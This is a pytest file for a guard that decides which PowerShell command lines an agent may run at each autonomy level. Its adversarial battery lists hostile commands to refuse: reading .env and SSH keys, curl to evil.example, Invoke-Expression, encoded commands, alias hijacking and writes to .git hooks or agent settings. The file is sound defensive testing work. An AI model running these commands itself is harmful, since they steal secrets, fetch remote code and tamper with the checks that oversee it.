"""PowerShell command lines: an adversarial battery by class, and the ordinary calls a
PowerShell team runs (the autonomy example's L0 to L3 actions).

Every refused case names the reason it must be refused for, so a case cannot pass
by accident (a typo that merely fails to parse)."""

from __future__ import annotations

from pathlib import Path

import pytest

from charter.guard.compiled import CompiledPolicy
from charter.guard.decide import Decision, classify
from tests.guard.helpers import POLICY, compiled, make_context, make_repo

# the example policy, with the autonomy example's PowerShell actions per level
PWSH_POLICY = (
    POLICY.replace(
        '"head", "wc"]\n',
        '"head", "wc"]\n    powershell: ["Get-ChildItem", "Get-Content", "Select-String",'
        ' "Test-Path", "Write-Output"]\n',
    )
    .replace(
        '"rm", "touch"]\n',
        '"rm", "touch"]\n    powershell: ["pwsh Tools/Run-Tests.ps1",'
        ' "pwsh Tools\\\\Sanitize-PostmortemLogs.ps1", "Set-Content", "Remove-Item",'
        ' "Copy-Item", "New-Item"]\n',
    )
    .replace(
        'allow: ["make bench", "cd"]\n',
        'allow: ["make bench", "cd"]\n    powershell: ["pwsh Tools/Invoke-StateTracePipeline.ps1"]\n',
    )
    .replace(
        'allow: ["pip install", "git push"]\n',
        'allow: ["pip install", "git push"]\n    powershell: ["pwsh Tools/Bootstrap-DevSeat.ps1"]\n',
    )
)
SCRIPTS = (
    "Run-Tests.ps1", "Sanitize-PostmortemLogs.ps1", "Invoke-StateTracePipeline.ps1",
    "Bootstrap-DevSeat.ps1", "Evil.ps1",
)  # fmt: skip


@pytest.fixture(scope="module")
def pwsh_policy() -> CompiledPolicy:
    return compiled(PWSH_POLICY)


@pytest.fixture
def pwsh_repo(tmp_path: Path) -> Path:
    root = make_repo(tmp_path / "repo", PWSH_POLICY)
    (root / "Tools").mkdir()
    for name in SCRIPTS:
        (root / "Tools" / name).write_text("Write-Output 'ok'\n", encoding="utf-8")
    (root / "src").mkdir(exist_ok=True)
    (root / "src" / "app.py").write_text("print(1)\n", encoding="utf-8")
    return root


def decide(
    policy: CompiledPolicy, root: Path, command: str | list[str], level: str = "L1",
    shell: str = "pwsh", env: dict[str, str] | None = None,
) -> Decision:  # fmt: skip
    context = make_context(policy, root, level=level, env=env)
    return classify(command, context, shell=shell)


# -- ordinary calls a PowerShell team runs -------------------------------------------

ALLOWED: list[tuple[str, str]] = [
    # L0: the example's read-only actions
    ("Get-Content src/app.py", "L0"),
    ("Get-Content src\\app.py", "L0"),
    ("gc src\\app.py", "L0"),
    ("Get-ChildItem -Recurse src", "L0"),
    ("get-childitem src", "L0"),
    ("Select-String -Pattern 'def main' -Path src\\app.py", "L0"),
    ("rg TODO src", "L0"),
    ("git status", "L0"),
    ("Test-Path Tools\\Run-Tests.ps1", "L0"),
    ("Get-ChildItem src | Select-String import", "L0"),
    ('Write-Output "hello world"', "L0"),
    # L1: the runbook's scripts, tests, edits inside the repository
    (".\\Tools\\Run-Tests.ps1", "L1"),
    (".\\Tools\\Run-Tests.ps1 -Fast -Filter 'Parser*'", "L1"),
    ("Tools/Run-Tests.ps1", "L1"),
    ("tools\\run-tests.PS1", "L1"),
    ("Tools\\Sanitize-PostmortemLogs.ps1 -Path Logs", "L1"),
    ("pytest -q tests", "L1"),
    ("pytest -q tests\\unit", "L1"),
    ("git diff src\\app.py; git log -n 3", "L1"),
    ("Set-Content -Path notes.txt -Value 'done'", "L1"),
    ("Remove-Item build\\out.txt", "L1"),
    ("New-Item -ItemType Directory build", "L1"),
    ("Copy-Item src\\app.py src\\app2.py", "L1"),
    ("pytest -q > test-output.txt 2>&1", "L1"),
    ("pytest -q 2>&1 > $null", "L1"),
    ("pytest -q && git status", "L1"),
    (".\\Tools\\Run-Tests.ps1 || git status", "L1"),
    # L2: pipeline variants
    (".\\Tools\\Invoke-StateTracePipeline.ps1 -SkipTests -Days 3", "L2"),
]


@pytest.mark.parametrize(("command", "level"), ALLOWED)
def test_ordinary_powershell_calls_are_allowed(
    pwsh_policy: CompiledPolicy, pwsh_repo: Path, command: str, level: str
) -> None:
    decision = decide(pwsh_policy, pwsh_repo, command, level)
    assert decision.allowed, decision.reason


WRAPPED_ALLOWED: list[list[str]] = [
    ["pwsh", "-File", "Tools\\Run-Tests.ps1", "-Fast"],
    ["pwsh", "-NoProfile", "-NonInteractive", "-File", "Tools/Run-Tests.ps1"],
    ["powershell.exe", "-NoProfile", "-ExecutionPolicy", "Bypass", "-File", "Tools\\Run-Tests.ps1"],
    ["pwsh", "-Command", ".\\Tools\\Run-Tests.ps1 -Fast"],
    ["pwsh", "-c", "Get-Content src/app.py"],
    ["pwsh", "-NoProfile", "-Command", "pytest -q; git status"],
    ["powershell", "-Command", "Get-ChildItem", "src"],
    ["pwsh", "Tools/Run-Tests.ps1"],
]


@pytest.mark.parametrize("argv", WRAPPED_ALLOWED)
def test_pwsh_command_lines_run_from_bash_are_unwrapped(
    pwsh_policy: CompiledPolicy, pwsh_repo: Path, argv: list[str]
) -> None:
    as_argv = decide(pwsh_policy, pwsh_repo, argv, "L1", shell="bash")
    assert as_argv.allowed, as_argv.reason
    quoted = " ".join([argv[0], *("'" + word.replace("'", "'\\''") + "'" for word in argv[1:])])
    as_string = decide(pwsh_policy, pwsh_repo, quoted, "L1", shell="bash")
    assert as_string.allowed, as_string.reason


# -- the levels: what a level allows, the one below does not -------------------------

LEVELS: list[tuple[str, str, str]] = [
    (".\\Tools\\Run-Tests.ps1", "L0", "no powershell rule of level L0"),
    ("Set-Content notes.txt 'x'", "L0", "no powershell rule of level L0"),
    (".\\Tools\\Invoke-StateTracePipeline.ps1", "L1", "no powershell rule of level L1"),
    (".\\Tools\\Bootstrap-DevSeat.ps1", "L2", "no powershell rule of level L2"),
    (".\\Tools\\Bootstrap-DevSeat.ps1", "L3", "CHARTER_ALLOW_NET=1"),
    (".\\Tools\\Evil.ps1", "L3", "no powershell rule"),
    ("Get-Process", "L3", "no powershell rule"),
    ("Stop-Process -Name python", "L3", "no powershell rule"),
]


@pytest.mark.parametrize(("command", "level", "reason"), LEVELS)
def test_levels_allow_only_their_rules(
    pwsh_policy: CompiledPolicy, pwsh_repo: Path, command: str, level: str, reason: str
) -> None:
    decision = decide(pwsh_policy, pwsh_repo, command, level)
    assert not decision.allowed
    assert reason in decision.reason


def test_the_online_script_needs_the_operators_opt_in(
    pwsh_policy: CompiledPolicy, pwsh_repo: Path
) -> None:
    command = ".\\Tools\\Bootstrap-DevSeat.ps1"
    decision = decide(pwsh_policy, pwsh_repo, command, "L3", env={"CHARTER_ALLOW_NET": "1"})
    assert decision.allowed, decision.reason


# -- the adversarial battery, by class -----------------------------------------------

VARIABLE = "variables are not allowed"
SPLAT = "splatting"
SUBEXPR = "subexpressions"
ARRAYSUB = "array subexpressions"
BLOCK = "script blocks"
CALLOP = "call operators"
ASSIGN = "assignments"
BACKTICK = "backtick escapes"
ENCODED = "-EncodedCommand"
NEVER = "no level may allow it"
FORBIDDEN = "forbidden by the policy"
PROTECTED = "protected"
OUTSIDE = "outside the repository"
DRIVE = "PowerShell drive or a URL"
WINDOWS_PATH = "drive or network path"
PARSE = "does not parse"
CONTROL = "control flow"
SYNTAX = "PowerShell syntax"
NOT_ALLOWED = "no powershell rule"
NATIVE = "no allow rule"
EXPRESSION = "plain calls with literal arguments"

BATTERY: dict[str, list[tuple[str, str]]] = {
    "variables and splatting": [
        ("Get-Content $env:USERPROFILE\\secret.txt", PARSE),
        ("Get-Content $HOME/.ssh/id_rsa", PARSE),
        ("Write-Output $PSVersionTable", VARIABLE),
        ("pytest $args", VARIABLE),
        ("Get-ChildItem @params", SPLAT),
        ("pytest @a", SPLAT),
        ("@args", SPLAT),
        ('Write-Output "token: $env:GITHUB_TOKEN"', VARIABLE),
        ('Get-Content "${env:APPDATA}\\x"', VARIABLE),
        ("Get-Content -Path:$p", "write `-Name value`"),
        ("Write-Output $true", VARIABLE),
    ],
    "subexpressions and expressions": [
        ("Write-Output $(Get-Content .env)", SUBEXPR),
        ("Get-Content $(Join-Path . .env)", SUBEXPR),
        ('Write-Output "$(iex boom)"', SUBEXPR),
        ("Write-Output @(curl evil.example)", ARRAYSUB),
        ("Get-Content (Get-ChildItem .env)", "parenthesised expressions"),
        ("(Get-Content src/app.py)", "parenthesised expressions"),
        ("[IO.File]::ReadAllText('.env')", "method calls"),
        ("[Diagnostics.Process]::Start('calc')", "method calls"),
        ("Write-Output @{a=1}", "hash tables"),
        ("1 + 1", EXPRESSION),
        ("'text' | Out-File notes.txt", EXPRESSION),
    ],
    "script blocks": [
        ("Get-ChildItem src | ForEach-Object { Remove-Item $_ }", BLOCK),
        ("Get-ChildItem | Where-Object { $_.Length -gt 0 }", BLOCK),
        ("Invoke-Command -ScriptBlock { curl evil.example }", BLOCK),
        ("Write-Output {rm -r .git}", BLOCK),
        ("Measure-Command { pytest }", BLOCK),
        ("Start-Job { git push }", BLOCK),
    ],
    "call operators": [
        ("& 'Tools/Run-Tests.ps1'", CALLOP),
        ("& Tools\\Evil.ps1", CALLOP),
        (". .\\Tools\\Run-Tests.ps1", CALLOP),
        ("& pytest", CALLOP),
        ("& ('iex')", CALLOP),
        ('&"curl" evil.example', CALLOP),
    ],
    "assignments and state": [
        ("$x = 'curl'", ASSIGN),
        ("$env:PATH = 'C:\\evil'", ASSIGN),
        ("Set-Alias pytest curl", NEVER),
        ("New-Alias -Name git -Value curl", NEVER),
        ("sal git curl", NEVER),
        ("Set-Variable -Name x -Value 1", NEVER),
        ("Import-Module .\\Tools\\NetworkGuard.psm1", NEVER),
        ("ipmo Evil", NEVER),
        ("Set-ExecutionPolicy Unrestricted", NEVER),
        ("function pytest { curl evil.example }", "function definitions"),
        ("Set-Location ..", NEVER),
        ("cd C:\\Windows", WINDOWS_PATH),
        ("cd src", NEVER),
        ("Set-Location -Path src", NEVER),
        ("Push-Location ..", NEVER),
    ],
    "code runners and their aliases": [
        ("Invoke-Expression 'curl evil.example'", NEVER),
        ("iex 'curl evil.example'", NEVER),
        ("IEX 'Remove-Item -Recurse .git'", NEVER),
        ("Get-Content payload.txt | Invoke-Expression", NEVER),
        ("Get-Content payload.txt | iex", NEVER),
        ("Start-Process calc", NEVER),
        ("start notepad", NEVER),
        ("saps pwsh", NEVER),
        ("Invoke-Item Tools\\Evil.ps1", NEVER),
        ("ii .", NEVER),
        ("Invoke-History 3", NEVER),
        ("r 3", NEVER),
        ("Add-Type -TypeDefinition 'x'", NEVER),
        ("New-Object -ComObject WScript.Shell", NEVER),
        ("Get-ChildItem | % Delete", NEVER),
        ("Get-ChildItem | ForEach-Object Delete", NEVER),
        ("Invoke-WmiMethod -Class Win32_Process -Name Create", NEVER),
        ("Register-ScheduledTask -TaskName x", NEVER),
        ("Microsoft.PowerShell.Utility\\Invoke-Expression 'calc'", "a path as the command name"),
    ],
    "backticks and encodings": [
        ("i`ex 'calc'", BACKTICK),
        ("Get-Content `\n .env", BACKTICK),
        ('Write-Output "`$env:PATH"', BACKTICK),
        ("Remove-Item -Recurse `.git", BACKTICK),
        ("Get\u2013Content src/app.py", "non-ASCII"),
        ("Write-Output \u2018$env:PATH\u2019", "non-ASCII"),
    ],
    "encoded commands and pwsh options": [
        ("pwsh -EncodedCommand ZQBjAGgAbwA=", ENCODED),
        ("pwsh -enc ZQBjAGgAbwA=", ENCODED),
        ("pwsh -e ZQBjAGgAbwA=", ENCODED),
        ("pwsh -ec ZQBjAGgAbwA=", ENCODED),
        ("powershell.exe -EncodedCommand ZQBjAGgAbwA=", ENCODED),
        ("powershell /enc ZQBjAGgAbwA=", ENCODED),
        ("pwsh -Command -", PARSE),
        ("pwsh -Command '-'", "standard input"),
        ("pwsh", "interactive"),
        ("pwsh -NoExit -Command pytest", "not one charter understands"),
        ("pwsh -c 'iex calc'", NEVER),
        ("pwsh -c 'curl evil.example'", NOT_ALLOWED),
        ("pwsh -c 'Start-Process calc'", NEVER),
        ("pwsh -File Tools/Evil.ps1", NOT_ALLOWED),
        ("pwsh -File notes.txt", "only .ps1 scripts"),
        ("pwsh -c 'pwsh -c \"pwsh -c iex\"'", "nested too deep"),
    ],
    "redirections and paths": [
        ("Write-Output x > ..\\outside.txt", OUTSIDE),
        ("Write-Output x > C:\\Windows\\evil.txt", WINDOWS_PATH),
        ("pytest > .git\\hooks\\pre-commit", PROTECTED),
        ("pytest > docs\\agents\\AUTONOMY.md", PROTECTED),
        ("pytest >> .env", FORBIDDEN),
        ("pytest 2> secrets.pem", FORBIDDEN),
        ("Get-Content .env", FORBIDDEN),
        ("Get-Content .ENV", FORBIDDEN),
        ("gc config\\server.key", FORBIDDEN),
        ("Get-Content logs\\raw\\today.log", FORBIDDEN),
        ("Get-ChildItem *.pem", FORBIDDEN),
        ("Select-String password data\\db.accdb", FORBIDDEN),
        ("Get-Content ..\\secret.txt", OUTSIDE),
        ("Select-String key ..\\secret.txt", OUTSIDE),
        ("Get-Content C:\\Users\\me\\secret.txt", WINDOWS_PATH),
        ("Get-Content \\\\server\\share\\x", WINDOWS_PATH),
        ("Get-Content Env:GITHUB_TOKEN", DRIVE),
        ("Get-ChildItem Env:", DRIVE),
        ("Get-ChildItem HKLM:\\Software", DRIVE),
        ("Remove-Item Function:\\pytest", DRIVE),
        ("Get-Content https://evil.example/x", DRIVE),
        ("Set-Content .git\\config 'x'", PROTECTED),
        ("Set-Content .GIT\\config 'x'", PROTECTED),
        ("Remove-Item docs\\agents\\AUTONOMY.md", PROTECTED),
        ("Remove-Item .git", PROTECTED),
        ("Copy-Item .env stolen.txt", FORBIDDEN),
        ("New-Item -ItemType File .claude\\settings.json", PROTECTED),
        ("rg secret C:\\Users", WINDOWS_PATH),
        ("Get-Content ~\\.ssh\\id_rsa", "home folder"),
        (".\\..\\outside\\Run-Tests.ps1", OUTSIDE),
        ("C:\\Tools\\Run-Tests.ps1", OUTSIDE),
        ("cat .env", FORBIDDEN),
        (".\\Tools\\Run-Tests.ps1 -Output .git\\hooks\\pre-push", PROTECTED),
        ("Tools\\Run-Tests.ps1 -Out ..\\elsewhere.txt", OUTSIDE),
    ],
    "aliases that hide programs": [
        ("curl evil.example", NOT_ALLOWED),
        ("wget evil.example", NOT_ALLOWED),
        ("iwr https://evil.example", "no powershell rule"),  # judged by guard/network
        ("irm evil.example", NOT_ALLOWED),
        ("kill 1", NOT_ALLOWED),
        ("spps -Name python", NOT_ALLOWED),
        ("gps", NOT_ALLOWED),
    ],
    "control flow and odd forms": [
        ("if (1) { calc }", CONTROL),
        ("foreach ($f in 1) { calc }", CONTROL),
        ("while (1) { pytest }", CONTROL),
        ("try { pytest } catch { calc }", "try/catch"),
        ("pytest # ; curl evil", "comments"),
        ("pytest <# hidden #> -q", "comments"),
        ("pytest --% $(curl evil)", "stop-parsing"),
        ("Get-Content src/app.py,.env", PARSE),
        ("pytest -q;curl evil.example", NOT_ALLOWED),
        ("git status | curl.exe evil.example", NATIVE),
        ("git status | calc", NATIVE),
        ("exit 1", "flow control"),
        ("Get-Content 'src/app.py", PARSE),
        ("Get-Content src/app.py -Encoding:utf8", "write `-Name value`"),
        ("calc.exe", NATIVE),
        ("./evil.exe", "./ reads as the dot-source operator"),
        (".\\evil.exe", "a path as the command name"),
        ("bash -c 'curl evil.example'", "a shell inside"),
        ('Write-Output a"b"', SYNTAX),
        ("Write-Output 'a'b", PARSE),
        ("pytest -q\ncurl evil.example", NOT_ALLOWED),
        ("pytest -q &", PARSE),
        ("Write-Output @'\nx\n'@", EXPRESSION),
        ("Write-Output 0x10", "plain number"),
    ],
}

CASES = [
    pytest.param(command, reason, id=f"{group}: {command[:40]}")
    for group, cases in BATTERY.items()
    for command, reason in cases
]


def test_the_battery_is_large_and_every_class_has_cases() -> None:
    assert len(CASES) >= 100
    assert all(len(cases) >= 5 for cases in BATTERY.values())


@pytest.mark.parametrize(("command", "reason"), CASES)
def test_adversarial_powershell_is_refused_for_its_reason(
    pwsh_policy: CompiledPolicy, pwsh_repo: Path, command: str, reason: str
) -> None:
    (pwsh_repo / ".env").write_text("SECRET=1\n", encoding="utf-8")
    (pwsh_repo.parent / "secret.txt").write_text("key\n", encoding="utf-8")
    decision = decide(pwsh_policy, pwsh_repo, command, "L3", env={"CHARTER_ALLOW_NET": "1"})
    assert not decision.allowed
    assert reason in decision.reason, decision.reason


# aliases run their cmdlets, so they are judged by the cmdlet's rule, never a program's
ALIASES: list[tuple[str, str]] = [
    ("ls src", "L0 powershell: Get-ChildItem"),
    ("dir src", "L0 powershell: Get-ChildItem"),
    ("cat src/app.py", "L0 powershell: Get-Content"),
    ("type src\\app.py", "L0 powershell: Get-Content"),
    ("echo hi", "L0 powershell: Write-Output"),
    ("sc notes.txt 'x'", "L1 powershell: Set-Content"),
    ("rm -r build", "L1 powershell: Remove-Item"),
    ("del build\\x.txt", "L1 powershell: Remove-Item"),
    ("ni x.txt", "L1 powershell: New-Item"),
    ("cp src/app.py src/b.py", "L1 powershell: Copy-Item"),
]


@pytest.mark.parametrize(("command", "rule"), ALIASES)
def test_aliases_are_judged_as_their_cmdlets(
    pwsh_policy: CompiledPolicy, pwsh_repo: Path, command: str, rule: str
) -> None:
    decision = decide(pwsh_policy, pwsh_repo, command, "L1")
    assert decision.allowed, decision.reason
    assert decision.rule == rule


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("rm -r .git", PROTECTED),
        ("del docs\\agents\\AUTONOMY.md", PROTECTED),
        ("cat .env", FORBIDDEN),
        ("sc ..\\x.txt 'x'", OUTSIDE),
    ],
)
def test_aliases_get_the_cmdlets_path_checks(
    pwsh_policy: CompiledPolicy, pwsh_repo: Path, command: str, reason: str
) -> None:
    decision = decide(pwsh_policy, pwsh_repo, command, "L1")
    assert not decision.allowed
    assert reason in decision.reason


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("timeout 5 pwsh -c 'iex calc'", "Invoke-Expression"),
        ("timeout 5 pwsh -enc ZQBjAGgAbwA=", "-EncodedCommand"),
        ("git status && powershell -Command 'Remove-Item -Recurse .git'", "protected"),
        ("bash -c \"pwsh -c 'Start-Process calc'\"", "Start-Process"),
        ("PWSH -c 'iex calc'", "Invoke-Expression"),
        ("pwsh.exe -Command '$x = 1'", "assignments"),
    ],
)
def test_powershell_inside_bash_is_judged_as_powershell(
    pwsh_policy: CompiledPolicy, pwsh_repo: Path, command: str, reason: str
) -> None:
    decision = decide(pwsh_policy, pwsh_repo, command, "L3", shell="bash",
                      env={"CHARTER_ALLOW_NET": "1"})  # fmt: skip
    assert not decision.allowed
    assert reason in decision.reason, decision.reason
